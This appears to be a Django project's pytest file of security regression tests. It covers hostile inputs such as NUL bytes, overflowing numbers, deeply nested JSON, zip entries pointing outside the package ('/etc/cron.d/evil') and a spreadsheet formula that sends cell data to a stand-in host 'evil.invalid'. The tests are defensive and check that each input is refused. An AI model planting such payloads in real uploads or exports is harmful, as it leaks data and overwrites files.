"""Bugs the hostile inputs found in the application code, each kept as the test that shows it
fixed: a verification code with a slash, NUL in an address, digits that are not numbers ("²"),
JSON nested too deep, points too large for the step check, office documents with parts named
outside them, and formulas typed into notes coming out live in exports.
"""

from __future__ import annotations

import io
from urllib.parse import quote

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from assessments import entry_workbook, spreadsheets
from assessments.evidence import EvidenceRejected, check_upload
from assessments.models import Indicator, Participation, Period, Submission
from assessments.services import imports
from tests.access import bodies
from tests.access.world import DRAFT_UNIT, OPEN_YEAR, OWN_UNIT, PUBLISHED_YEAR
from tests.hostile import corpus
from tests.hostile.checks import json_detail, rolled_back, shows_an_error, upload

ON_POSTGRESQL = settings.DATABASES["default"]["ENGINE"].endswith("postgresql")


def _anonymous() -> Client:
    return Client(raise_request_exception=False)


# --- 1. /verify/?code= with a "/" ---------------------------------------------------------------


@pytest.mark.parametrize("code", ["a/b", "../..", "/"])
def test_a_typed_code_with_a_slash_answers_the_not_found_page(world, db, code):
    response = _anonymous().get("/verify/", {"code": code})

    assert response.status_code in (302, 404), response.status_code


# --- 2. NUL in what reaches a PostgreSQL query ---------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["/search/?q=a%00b", "/verify/a%00b/", "/api/v1/units/a%00b/"],
)
def test_a_nul_in_a_public_address_is_not_a_server_error(world, db, url):
    response = _anonymous().get(url)

    assert response.status_code < 500, response.status_code


# --- 3-5. str.isdigit() then int() ---------------------------------------------------------------

SUPERSCRIPT_TWO = "²"  # isdigit() is True, int() refuses it


@pytest.mark.parametrize(
    "page",
    [
        f"/results/{PUBLISHED_YEAR}/",
        f"/results/{PUBLISHED_YEAR}/quan-thi-xa/",
        f"/results/{PUBLISHED_YEAR}/methodology/",
        f"/results/{PUBLISHED_YEAR}/download.csv",
    ],
)
def test_a_version_that_is_no_number_answers_404(world, db, page):
    response = _anonymous().get(page, {"version": SUPERSCRIPT_TWO})

    assert response.status_code == 404, response.status_code


@pytest.mark.parametrize("name", ["api:period-detail", "api:framework-detail"])
def test_an_api_key_that_is_no_number_answers_404(world, db, name):
    kwarg = {"year": "KEY"}
    url = reverse(name, kwargs=kwarg).replace("KEY", quote(SUPERSCRIPT_TWO))
    response = _anonymous().get(url)

    assert response.status_code == 404 and json_detail(response)


def test_removing_evidence_by_an_id_that_is_no_number_answers_404(world, db):
    client = world.client("officer", raise_request_exception=False)
    url = reverse("assessments:submission", args=[OWN_UNIT, OPEN_YEAR])
    body = bodies.officer_form(world.own_submission, remove_evidence=SUPERSCRIPT_TWO)

    with rolled_back() as writes:
        response = client.post(url, body)

    assert response.status_code == 404 and not writes


# --- 6. JSON nested too deep ---------------------------------------------------------------------


def test_json_nested_too_deep_is_refused_with_400(world, db):
    body = "[" * 100_000 + "]" * 100_000
    response = _anonymous().post(reverse("api:token"), body, content_type="application/json")

    assert response.status_code == 400 and json_detail(response)


# --- 7. points too large for the step validator ------------------------------------------------

TOO_LARGE = "1e309"  # also "9e999999999": decimal.Overflow

POINTS_REASON = (
    "BUG assessments/forms.py value_fields(): the points field's step_size uses Django's "
    "StepValueValidator, which computes math.remainder() on floats and raises ValueError "
    "('math domain error') for 1e309 (decimal.Overflow for 9e999999999): 500 on the "
    "officer's form, autosave, the reviewer's corrections, and the answers import (admin "
    "page 500, command traceback). Fix: drop step_size and check the half steps in "
    "clean_points / _check_rate style after max_value, or a DecimalField subclass whose "
    "to_python refuses non-finite values and values with adjusted() > 6 as 'Enter a number'."
)


def _scale() -> Indicator:
    return Indicator.objects.get(code="I.4", framework__period__year=OPEN_YEAR)


def test_points_too_large_are_refused_on_the_officers_form(world, db):
    indicator = _scale()
    client = world.client("draft_officer", raise_request_exception=False)
    body = bodies.officer_form(world.draft_submission, **{f"i{indicator.pk}-points": TOO_LARGE})

    with rolled_back() as writes:
        response = client.post(
            reverse("assessments:submission", args=[DRAFT_UNIT, OPEN_YEAR]), body
        )

    assert response.status_code == 200 and shows_an_error(response) and not writes


def test_points_too_large_are_refused_by_autosave(world, db):
    indicator = _scale()
    client = world.client("draft_officer", raise_request_exception=False)
    url = reverse("assessments:autosave", args=[DRAFT_UNIT, OPEN_YEAR, indicator.pk])

    response = client.post(url, {f"i{indicator.pk}-points": TOO_LARGE})

    assert response.status_code == 422


def test_points_too_large_are_refused_in_the_reviewers_corrections(world, db):
    indicator = _scale()
    client = world.client("reviewer", raise_request_exception=False)
    body = bodies.corrections(
        world.review_submission,
        **{f"r{indicator.pk}-points": TOO_LARGE, f"r{indicator.pk}-reason": "Sai"},
    )

    response = client.post(reverse("assessments:review_save", args=[world.review_submission]), body)

    assert response.status_code == 422


def test_points_too_large_are_a_row_error_of_the_answers_import(world, db):
    data = f"unit_code,indicator_code,points\n{DRAFT_UNIT},I.4,{TOO_LARGE}\n".encode()
    period = Period.objects.get(year=OPEN_YEAR)

    with pytest.raises(imports.ImportRejected):
        imports.import_answers(sheet=spreadsheets.read_bytes(data, name="a.csv"), period=period)


# --- 8. evidence packages with entries outside the package ---------------------------------------


@pytest.mark.parametrize("entry", ["../../evil.sh", "/etc/cron.d/evil", "..\\evil.bat"])
def test_an_office_package_with_entries_outside_it_is_refused(entry):
    data = corpus.zip_of(
        [
            ("[Content_Types].xml", corpus.CONTENT_TYPES),
            ("word/document.xml", b"<w:document/>"),
            (entry, corpus.SCRIPT),
        ]
    )

    with pytest.raises(EvidenceRejected):
        check_upload(upload("quyet-dinh.docx", data), max_bytes=10 * 1024 * 1024)


# --- 9. formulas in exports --------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Bấm vào đây")'
FORMULA_REASON = (
    "BUG exports write what officers and reviewers typed verbatim: a note or a reviewer's "
    "comment starting with = + - @ (or tab/CR) becomes a live formula in the admin's answers "
    "export (XLSX: a formula cell; CSV: evaluated by Excel), in the API's submission export "
    "CSV and in the officer's entry workbook (a reviewer's comment). Fix: one helper in "
    "assessments/spreadsheets.py that prefixes such text cells with an apostrophe (and for "
    "openpyxl sets data_type 's'), used by write_csv/write_xlsx, entry_workbook and the "
    "API's csv_response; the imports strip that apostrophe back."
)


def _plant_formula(world) -> Submission:
    submission = Submission.objects.get(pk=world.draft_submission)
    answer = submission.answers.order_by("pk").first()
    answer.note = FORMULA
    answer.reviewer_comment = FORMULA
    answer.save()
    return submission


def _formula_cells(data: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and "HYPERLINK" in str(cell.value)
    ]


def test_an_officers_note_is_no_formula_in_the_admins_xlsx_export(world, db):
    _plant_formula(world)
    rows = imports.export_rows(Period.objects.get(year=OPEN_YEAR))

    assert not _formula_cells(spreadsheets.write_xlsx(imports.EXPORT_COLUMNS, rows, title="x"))


def test_an_officers_note_is_no_formula_in_the_admins_csv_export(world, db):
    _plant_formula(world)
    rows = imports.export_rows(Period.objects.get(year=OPEN_YEAR))
    text = spreadsheets.write_csv(imports.EXPORT_COLUMNS, rows).decode("utf-8-sig")

    assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text


def test_an_officers_note_is_no_formula_in_the_apis_csv_export(world, db):
    submission = _plant_formula(world)
    client = world.client("draft_officer")
    response = client.get(reverse("api:submission-export", args=[submission.pk]), {"format": "csv"})

    assert response.status_code == 200
    assert '"=HYPERLINK' not in response.content.decode()


def test_a_reviewers_comment_is_no_formula_in_the_officers_workbook(world, db):
    submission = _plant_formula(world)
    participation = Participation.objects.get(unit=submission.unit, period=submission.period)

    assert not _formula_cells(entry_workbook.build(submission, participation))
